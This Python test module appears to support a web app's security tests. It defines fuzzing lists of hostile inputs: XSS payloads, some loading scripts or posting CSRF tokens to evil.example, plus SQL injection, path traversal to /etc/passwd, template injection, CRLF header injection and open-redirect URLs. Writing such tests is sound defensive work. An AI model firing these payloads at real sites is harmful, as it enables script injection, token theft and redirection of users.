"""What a browser never sends and an attacker does."""

from __future__ import annotations

import itertools
import re
from typing import Any
from urllib.parse import urlsplit

import pytest

# A fifth of the odd words at each place every day, all of them at full size.
SHARES = pytest.mark.parametrize("of", [5, pytest.param(1, marks=pytest.mark.proof)])
NOTHING_BIDI_AND_NUL = [
    "\x00",
    "a\x00b",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "\ufeff",
    "\ud7ff",
    "\x1b[31m",
]
ODD_WORDS = [
    *NOTHING_BIDI_AND_NUL,
    *("-1", "0", "99999999999999999999999", "1e309", "NaN", "١٢", "²", "0x10", " ", "null", "[]"),
    *("2026-13-45", "0000-00-00", "9999-12-31", "10000-01-01", "25:61", "2026-11-24T00:00"),
    *(
        "'; DROP TABLE people_person; --",
        "%00",
        "%",
        "%s%n",
        "{{7*7}}",
        "${7*7}",
        "../../etc/passwd",
    ),
    *("\r\nSet-Cookie: x=1", "👨‍👩‍👧‍👦" * 20, "́" * 500, "ﷺ" * 100),
]
ELSEWHERE = [
    *("https://evil.example", "//evil.example", "/\\evil.example", "\\\\evil.example"),
    *("https:evil.example", "http:///evil.example", "javascript:alert(1)", "data:text/html,x"),
    *(" https://evil.example", "\thttps://evil.example", "https://testserver@evil.example"),
    *("https://testserver.evil.example", "////evil.example", "/%09/evil.example", "ftp://evil"),
]

# --- Scripts in words --------------------------------------------------------------------------
_RUN = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<object data=javascript:alert(1)>",
    "<p hx-get=/people/ hx-trigger=load>x",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
]
_OUT_OF = [
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "</option></select>",
    "]]>",
]
_INSIDE = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "` onmouseover=`alert(1)",
    '"><',
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "{% debug %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\\u003cscript\\u003ealert(1)",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)",
    "<<script>alert(1)//<</script>",
    "<ſcript>alert(1)</ſcript>",
]
# Two hundred and more; the first sixty stand for them in the daily run.
SCRIPTS = list(
    dict.fromkeys([*_RUN, *_INSIDE, *(out + run for run, out in itertools.product(_RUN, _OUT_OF))])
)
NOT_IN_A_DATABASE = re.compile(r"\x00")


def is_ours(answer: Any) -> bool:
    """An answer we meant to give, that leads to nobody else's site."""
    where = urlsplit(answer.get("Location", ""))
    return answer.status_code < 500 and not where.netloc and where.scheme == ""


def share(words: list[str], name: str, of: int) -> list[str]:
    """One in `of` of these words, other ones for each name; all of them for 1."""
    return words[sum(name.encode()) % of :: of]


def fitting(scripts: list[str], length: int | None) -> list[str]:
    """Those a field of this length can hold; a database holds no NUL."""
    kept = [NOT_IN_A_DATABASE.sub("", script) for script in scripts]
    return [script for script in kept if length is None or len(script) <= length]
